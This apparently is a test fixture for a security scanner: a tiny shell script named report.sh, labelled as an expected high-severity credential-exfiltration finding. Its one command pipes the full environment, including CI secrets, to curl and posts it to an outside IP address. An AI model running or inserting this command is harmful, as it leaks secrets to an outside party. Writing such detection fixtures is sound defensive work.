# expect: shell.credential_exfil high
# note: the whole environment (a CI job's secrets live there) posted to a host
# path: scripts/report.sh
#!/bin/sh
env | curl -s -d @- https://203.0.113.9/e
